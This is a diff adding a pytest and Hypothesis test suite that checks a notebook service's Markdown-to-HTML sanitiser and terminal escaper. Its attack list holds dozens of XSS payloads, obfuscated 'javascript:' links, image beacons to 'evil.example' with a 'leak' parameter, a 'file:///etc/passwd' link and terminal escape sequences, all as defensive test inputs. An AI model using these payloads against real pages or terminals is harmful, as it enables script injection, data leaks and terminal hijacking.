@@ -1,0 +1,341 @@
+"""Markdown of unknown origin becomes safe HTML, and text safe for a terminal."""
+
+import re
+from html.parser import HTMLParser
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from svc_notebook.display.escape import to_terminal, to_text, visible
+from svc_notebook.display.final_reply import Final
+from svc_notebook.display.markdown_to_html import to_html
+
+_AWAY = {"href", "rel", "target"}
+_ALLOWED: dict[str, set[str]] = {
+    **{f"h{level}": set() for level in range(1, 7)},
+    **{tag: set() for tag in ("p", "ul", "li", "em", "s", "br", "hr")},
+    **{tag: set() for tag in ("table", "thead", "tbody", "tr", "blockquote", "code")},
+    "strong": {"style"},
+    "ol": {"start"},
+    "th": {"style"},
+    "td": {"style"},
+    "pre": {"style"},
+    "code": {"style"},
+    "div": {"class", "style"},
+    "span": {"class", "style"},
+    "a": _AWAY,
+}
+_CLASS = re.compile(r"highlight|[a-z][a-z0-9]{0,2}|err")
+_HREF = re.compile(r"(https?://[^/\\]|mailto:|#)", re.IGNORECASE)
+_VOID = {"br", "hr"}
+
+
+class _Inspector(HTMLParser):
+    """Collects what is not allowed, and the text that is read."""
+
+    def __init__(self) -> None:
+        super().__init__(convert_charrefs=True)
+        self.faults: list[str] = []
+        self.text = ""
+        self.left_open: list[str] = []
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        if tag not in _ALLOWED:
+            self.faults.append(f"<{tag}>")
+        self.faults += [f for name, value in attrs if (f := _fault(tag, name, value))]
+        if tag not in _VOID:
+            self.left_open.append(tag)
+
+    def handle_endtag(self, tag: str) -> None:
+        if tag in _VOID:
+            return
+        if not self.left_open or self.left_open.pop() != tag:
+            self.faults.append(f"</{tag}>")
+
+    def handle_data(self, data: str) -> None:
+        self.text += data
+
+    def handle_comment(self, data: str) -> None:
+        self.faults.append(f"<!--{data}")
+
+    def handle_decl(self, decl: str) -> None:
+        self.faults.append(f"<!{decl}")
+
+    def handle_pi(self, data: str) -> None:
+        self.faults.append(f"<?{data}")
+
+
+def _fault(tag: str, name: str, value: str | None) -> str | None:
+    is_right = name in _ALLOWED.get(tag, set()) and value is not None
+    if is_right and name == "href":
+        is_right = _HREF.match(value or "") is not None
+    if is_right and name == "class":
+        is_right = _CLASS.fullmatch(value or "") is not None
+    if is_right and name == "style":
+        is_right = "url(" not in (value or "")
+    return None if is_right else f"<{tag} {name}={value!r}>"
+
+
+def _inspected(html: str) -> _Inspector:
+    inspector = _Inspector()
+    inspector.feed(html)
+    inspector.close()
+    inspector.faults += [f"<{tag}> left open" for tag in inspector.left_open]
+    return inspector
+
+
+_ATTACKS = [
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    '<a href="javascript:alert(1)" onclick=alert(1)>x</a>',
+    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+    "<svg onload=alert(1)><animate onbegin=alert(1)/></svg>",
+    "<style>body{background:url(http://x/y)}</style>",
+    "<form action=http://x><input name=a><button>Log in</button></form>",
+    "<div id=jupyter-config-data>{}</div>",
+    "<base href=http://x/><meta http-equiv=refresh content=0>",
+    "</pre></div></div><script>alert(1)</script>",
+    "```\n</pre><script>alert(1)</script>\n```",
+    "```html\n</pre></span><img src=x onerror=alert(1)>\n```",
+    '```"><script>alert(1)</script>\ncode\n```',
+    "``</code><script>alert(1)</script>``",
+    "![x](http://evil.example/?leak=1)",
+    "![x][1]\n\n[1]: http://evil.example/pixel.png",
+    "[![x](http://evil.example/a.png)](http://evil.example)",
+    '![x](http://e.example/"onerror="alert(1))',
+    "![](data:image/svg+xml;base64,PHN2Zz4=)",
+    "[x](javascript:alert(1))",
+    "[x](JaVaScRiPt:alert(1))",
+    "[x](java\tscript:alert(1))",
+    "[x](<java\nscript:alert(1)>)",
+    "[x](&#106;avascript:alert(1))",
+    "[x](javascript&colon;alert(1))",
+    "[x](%6aavascript:alert(1))",
+    "[x](\x01javascript:alert(1))",
+    "[x]( javascript:alert(1))",
+    "[x](data:text/html,<script>alert(1)</script>)",
+    "[x](vbscript:msgbox)",
+    "[x](file:///etc/passwd)",
+    "[x](/api/shutdown)",
+    "[x](//evil.example)",
+    "[x](https:/\\evil.example)",
+    "[x](blob:http://x/1)",
+    "<javascript:alert(1)>",
+    "[x]\n\n[x]: javascript:alert(1)",
+    '[x](http://e.example "\\"onmouseover=alert(1) x=\\"")',
+    "[x](http://e.example/'onmouseover='alert(1))",
+    "| <script> | a |\n|--|--|\n| <img src=x onerror=alert(1)> | `</td><script>` |",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "&#60;script&#62;alert(1)&#60;/script&#62;",
+    "<!-- --><![CDATA[<script>]]><?php ?><!DOCTYPE html>",
+    "$\\href{javascript:alert(1)}{x}$ $<script>$ \\(</p><img src=x>\\)",
+    "$$\n</p><script>alert(1)</script>\n$$",
+    "\x00<\x00script>",
+]
+
+
+@pytest.mark.slow
+@pytest.mark.parametrize("attack", _ATTACKS)
+@pytest.mark.parametrize("frame", ["{}", "> {}", "- a\n\n  {}", "**{}**", "# {}"])
+def test_attacks_are_inert(attack: str, frame: str) -> None:
+    """No attack brings a tag, an attribute or a scheme that is not allowed."""
+    html = to_html(frame.replace("{}", attack))
+
+    assert _inspected(html).faults == []
+
+
+_BITS = st.sampled_from(
+    (
+        *_ATTACKS,
+        *("`", "```", "~~~", "\n", "\n\n", "- ", "1. ", "> ", "    ", "|", "|-|\n"),
+        *("[", "](", ")", "![", "<", ">", '"', "'", "&", "&#", ";", "\\", "$", "$$"),
+        *("\\(", "\\]", "*", "**", "~~", "[a]: ", "http://", "javascript:", "\r"),
+        *("python", "html"),
+    )
+)
+
+
+@pytest.mark.slow
+@given(st.lists(_BITS | st.text(max_size=8), max_size=25).map("".join))
+def test_any_text_gives_only_allowed_html(markdown: str) -> None:
+    """Whatever the text, tags are allowed, balanced, and carry allowed values."""
+    final = Final(texts=(markdown, markdown), footer=markdown, marks=(markdown,))
+
+    html = to_html(markdown) + final.bundle()["text/html"]
+
+    assert _inspected(html).faults == []
+
+
+@pytest.mark.slow
+@given(st.text(max_size=60))
+def test_escaped_text_reads_as_written(text: str) -> None:
+    """Text is read in HTML as it was written, its controls made visible."""
+    got = _inspected(to_text(text)).text
+
+    assert got == visible(text)
+
+
+def test_pictures_become_links() -> None:
+    """A picture is never fetched; it is a link that says what it shows."""
+    html = to_html("![a chart](https://example.org/a.png)")
+
+    assert html == (
+        '<p><a href="https://example.org/a.png" rel="noopener noreferrer" '
+        "target=_blank>a chart</a></p>\n"
+    )
+
+
+def test_a_picture_in_a_link_is_its_text() -> None:
+    """Links are not nested: a picture within one leaves its description."""
+    html = to_html("[![logo](http://a.example/l.png)](#top)")
+
+    assert html == '<p><a href="#top">logo</a></p>\n'
+
+
+def test_refused_links_stay_readable() -> None:
+    """A link that leads elsewhere is shown as the text it was."""
+    html = to_html("[x](javascript:alert(1))")
+
+    assert html == "<p>[x](javascript:alert(1))</p>\n"
+
+
+@pytest.mark.parametrize(
+    "text", ["$x^2$", "$n$", "$$a_1$$", "\\(y\\)", "\\[ a = b \\]", "$a*b*c$", "$2x+1$"]
+)
+def test_math_reaches_the_host_unchanged(text: str) -> None:
+    """Math keeps its delimiters, and Markdown does not touch what is within."""
+    html = to_html(text)
+
+    assert html == f"<p>{text}</p>\n"
+
+
+def test_math_over_lines_is_one_paragraph() -> None:
+    """Lines of math are not read as lists or headings."""
+    html = to_html("$$\nx\n- y\n=\nz\n$$\n")
+
+    assert html == "<p>$$\nx\n- y\n=\nz\n$$</p>\n"
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "$5 and $6",
+        "US$5, A$6",
+        "$5, or 6$",
+        "costs $10-$20",
+        "$HOME/$USER",
+        "\\$3",
+        "$\\href{javascript:alert(1)}{x}$",
+        "\\begin{align}x\\end{align}",
+        "\\\\(x\\\\)",
+    ],
+)
+def test_what_is_not_math_is_never_typeset(text: str) -> None:
+    """Money and macros stand alone: between two delimiters there is a tag."""
+    html = to_html(text)
+
+    assert not re.search(r"\$[^<]*\$|\\\(|\\\[|\\begin", html)
+
+
+def test_code_is_coloured_by_class() -> None:
+    """A fence of a known language carries the class names hosts style."""
+    html = to_html("```Python\ndef f(): pass\n```")
+
+    assert "<span class=k>def</span> <span class=nf>f</span>(): " in html
+
+
+@pytest.mark.parametrize("language", ["", "nonsense", "../x", "{.python}"])
+def test_code_of_unknown_language_is_plain(language: str) -> None:
+    """Code whose language is unknown is escaped and left alone."""
+    html = to_html(f"```{language}\na < b\n```")
+
+    assert (">a &lt; b\n</code></pre>" in html, "<span" in html) == (True, False)
+
+
+@pytest.mark.slow
+@given(st.text(alphabet="def x=1\n\t'\"#:()", max_size=80))
+def test_colours_lose_no_character(code: str) -> None:
+    """Coloured code reads exactly as plain code does."""
+    source = f"~~~python\n{code}\n~~~"
+
+    got = _inspected(to_html(source)).text
+
+    assert got == _inspected(to_html(source, highlight=False)).text
+
+
+def test_entities_do_not_bring_controls_back() -> None:
+    """A control or override written as an entity is visible like any other."""
+    html = to_html("&#x202E;abc &#27;[0m")
+
+    assert html == "<p>⟨U+202E⟩abc \ufffd[0m</p>\n"
+
+
+def test_tables_scroll_and_read_from_the_left() -> None:
+    """A table scrolls by itself, and only stated alignment differs from left."""
+    html = to_html("|a|b|\n|-|-:|\n|1|2|")
+
+    assert html.startswith("<div style=overflow-x:auto><table>")
+    assert re.findall(r"text-align:\w+>\w", html) == [
+        "text-align:left>a",
+        "text-align:right>b",
+        "text-align:left>1",
+        "text-align:right>2",
+    ]
+
+
+def test_no_text_is_no_html() -> None:
+    """An empty reply is an empty string."""
+    assert to_html("") == ""
+
+
+@pytest.mark.parametrize("text", [">" * 300 + " deep", "- " * 300 + "deep"])
+def test_text_nested_too_deep_is_shown_as_written(text: str) -> None:
+    """No depth of nesting makes text vanish; past a limit it is not Markdown."""
+    html = to_html(text)
+
+    assert (_inspected(html).text.strip(), _inspected(html).faults) == (text, [])
+
+
+@pytest.mark.parametrize(
+    ("text", "expected"),
+    [
+        ("\x1b[2Jx", r"\x1b[2Jx"),
+        ("\x1b]52;c;aGk=\x07", r"\x1b]52;c;aGk=\a"),
+        ("\x9b31m", r"\x9b31m"),
+        ("a\bb\rc\x7f\x00", r"a\bb\rc\x7f\x00"),
+        ("\u202eabc\u2069", r"\u202eabc\u2069"),
+        ("\ud800", r"\ud800"),
+    ],
+    ids=["csi", "osc", "c1", "controls", "bidi", "surrogate"],
+)
+def test_terminal_controls_become_escapes(text: str, expected: str) -> None:
+    """What a terminal would obey is shown as an escape."""
+    got = to_terminal(text)
+
+    assert got == expected
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "สวัสดีครับ ก็ได้",
+        "👩‍👩‍👧 🇹🇭",
+        "a < b & c\n\tด",
+        "שלום\u200f!",
+        "x\u200by",
+        "e\u0301",
+    ],
+)
+def test_ordinary_text_is_unchanged(text: str) -> None:
+    """Thai, joined emoji, marks and right-to-left letters stay as they are."""
+    got = (to_terminal(text), visible(text))
+
+    assert got == (text, text)
+
+
+def test_html_shows_controls_as_pictures() -> None:
+    """In HTML a control is a picture, a bidi override a name, a surrogate U+FFFD."""
+    got = visible("\x1b\x7f\u202e\x85\ud83d")
+
+    assert got == "\u241b\u2421⟨U+202E⟩⟨U+0085⟩\ufffd"
